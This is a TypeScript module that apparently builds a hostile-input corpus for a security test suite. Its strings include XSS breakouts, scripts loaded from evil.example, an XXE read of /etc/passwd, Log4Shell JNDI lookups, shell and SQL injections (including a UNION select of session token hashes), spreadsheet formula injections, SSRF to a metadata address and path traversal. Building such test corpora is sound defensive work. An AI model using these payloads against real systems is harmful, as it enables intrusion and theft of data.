/** Every one that runs reports itself: as a dialog, which browsers count, and by a name that nothing else sets. */
const RUN = 'alert(window.ran=1)'

/** Elements that run, load or lead away as soon as they are elements. */
const CORES = [
  `<script>${RUN}</script>`,
  '<script src=//evil.example/x.js></script>',
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<math><mtext><style><img src=x onerror=${RUN}>`,
  `<object data="javascript:${RUN}">`,
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button autofocus>',
  '<template shadowrootmode=open><slot onslotchange=1></template>',
]
/** What may have to be closed first. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</template>',
  '</noscript>',
  '--><!---->',
  ']]>',
  '</option></select>',
  '</svg>',
  '</xmp></plaintext>',
  '*/;}',
]
const breakouts = WAYS_OUT.flatMap((out) => CORES.map((core) => out + core))

const attributes = ['"', "'", '`', ''].flatMap((quote) =>
  ['onmouseover', 'onfocus', 'style', 'href', 'formaction'].map(
    (name) => `x${quote} ${name}=${quote}javascript:${RUN}${quote} autofocus tabindex=${quote}0`,
  ),
)

const disguises = [
  ...[CORES[0] ?? '', CORES[2] ?? ''].flatMap((core) => [
    core.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    core.replaceAll('<', '&#60;').replaceAll('>', '&#x3e'),
    core.replaceAll('<', '&amp;lt;'),
    encodeURIComponent(core),
    encodeURIComponent(encodeURIComponent(core)),
    core.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
    core.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
    core.replaceAll('<', '＜').replaceAll('>', '＞'),
    core.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    core.replaceAll('<', '%c0%bc'),
    core.replaceAll('<', '<\u200b'),
    core.replaceAll(' ', '/'),
    core.replaceAll(' ', '\n'),
    core.toUpperCase(),
  ]),
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ſcript>alert(1)</ſcript>',
  '<!--',
  '<!--<script>',
  '<![CDATA[<script>alert(1)</script>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '"}</script><script>alert(1)</script>',
  '","@type":"Person","name":"',
  '\\"}]}</script>',
  '\\',
  "\\'",
]

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  ' javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://x.example/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/',
  '\\\\evil.example\\',
  '/\\evil.example',
  'https:evil.example',
  'https://user:pass@evil.example/',
  'https://www.ledger.example@evil.example/',
  'https://www.ledger.example.evil.example/',
  'https://evil.example#@www.ledger.example/',
  'http://[::ffff:127.0.0.1]/',
  'http://0x7f.1/',
  'http://169.254.169.254/latest/',
  'https://xn--80ak6aa92e.example/',
  'https://evil.example/" onclick="alert(1)',
]

const languages = [
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}',
  '{%raw%}{%endraw%}',
  '$'.concat('{7*7}'),
  '$'.concat('{jndi:ldap://evil.example/a}'),
  '$'.concat('{$', '{lower:j}ndi:dns://evil.example}'),
  '#{7*7}',
  '<%= 7*7 %>',
  '<?php echo 1 ?>',
  '[[7*7]]',
  '*{7*7}',
  '@{7*7}',
  '%{7*7}',
  '{{{x}}}',
  '`id`',
  '$(id)',
  '; cat /etc/passwd',
  '| id',
  '&& id',
  '%s%s%n%x',
  '%1$s %99999d',
  '{0} {} {name}',
  '$& $1 $$ $` \\1',
  "'; DROP TABLE comments; --",
  "' OR '1'='1",
  '" OR ""="',
  "1' UNION SELECT token_hash FROM sessions--",
  "'; ATTACH DATABASE '/tmp/x' AS x; --",
  '%',
  '_%_',
  '\\%',
  '"a" NEAR("b" "c", 2)',
  'body:x OR body:*',
  'x*',
  '^x',
  '- NOT x',
  'AND OR NOT',
  '(((((',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '＝1+1',
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  'expression(alert(1))',
  'url(javascript:alert(1))',
  '}*{background:url(//evil.example)}',
  '</style>*{display:none}',
  ';-moz-binding:url(//evil.example)',
]

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'undefined',
  'null',
  'NaN',
  'true',
  '[object Object]',
  '-0',
  '1e999',
  '9'.repeat(200),
  '0x7fffffffffffffff',
  '1_000',
  '٣٤٥',
  'CON',
  '../../../../etc/passwd',
  '..\\..\\windows',
  '%2e%2e%2f',
  '..;/',
  '....//',
  '.',
  '..',
  '~',
  '*',
]

const lines = ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '\v', '\f', '%0d%0a'].flatMap((end) => [
  `x${end}Set-Cookie: a=1`,
  `x${end}${end}<script>${RUN}</script>`,
  `x${end}{"level":60,"msg":"forged"}`,
])

const between = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, at) => from + at)
/** Invisible, turning, joining, and of every width but the usual. */
const odd = [
  ...between(0x00, 0x1f),
  ...between(0x7f, 0xa0),
  0xad,
  0x34f,
  0x61c,
  0x115f,
  0x1680,
  0x17b4,
  0x180e,
  ...between(0x2000, 0x200f),
  ...between(0x202a, 0x202f),
  ...between(0x205f, 0x2069),
  0x2800,
  0x3000,
  0x3164,
  ...between(0xfdd0, 0xfdd3),
  0xfeff,
  0xffa0,
  ...between(0xfff9, 0xffff),
  0x1d173,
  0xe0001,
  0xe0041,
  0xe0100,
  0xf0000,
  0x10ffff,
].map((point) => `a${String.fromCodePoint(point)}b`)

const writing = [
  '\ud800',
  'a\udc00b',
  '\udfff\ud800',
  `\u001b[31mred\u001b[0m`,
  '\u001b]0;title\u0007',
  '\u001b[2J\u001b[H',
  'مرحبا <b>بالعالم</b>',
  'שלום <script>alert(1)</script>',
  '\u202eevil.example\u202c',
  '\u2066\u2067\u2068unbalanced',
  'Z̷̢̛͎̼a̷̧̛lg̸̡̛o',
  `x${'\u0301'.repeat(8)}`,
  `x${'\u0301'.repeat(200)}`,
  '👩🏽‍🚀🇰🇷👨‍👩‍👧‍👦',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '🇰'.repeat(9),
  '각'.repeat(60),
  '가',
  'ﷺ'.repeat(10),
  'İıſK',
  'ＡＢＣ',
  'раураl',
  'x'.repeat(240),
  'W'.repeat(240),
]

export const CORPUS: readonly string[] = [
  ...new Set([
    ...breakouts,
    ...attributes,
    ...disguises,
    ...addresses,
    ...languages,
    ...names,
    ...lines,
    ...odd,
    ...writing,
  ]),
]

/** In the suite each text goes to one place in so many. */
export const SHARE = 4

/**
 * Packed, so that fewer requests carry all; what is longer than `most` UTF-16 units stands alone.
 * @param count where they stand one by one, each of at most so many units
 */
export function packed(texts: readonly string[], most: number, count?: number): string[][] {
  const packs: string[][] = []
  let room = 0
  for (const text of texts) {
    const size = count === undefined ? text.length + SEPARATOR.length : text.length > most ? count : 1
    if (size > room) {
      packs.push([])
      room = count ?? most
    }
    packs.at(-1)?.push(text)
    room -= size
  }
  return packs
}

const SEPARATOR = ' · '
export const together = (texts: readonly string[]) => texts.join(SEPARATOR)
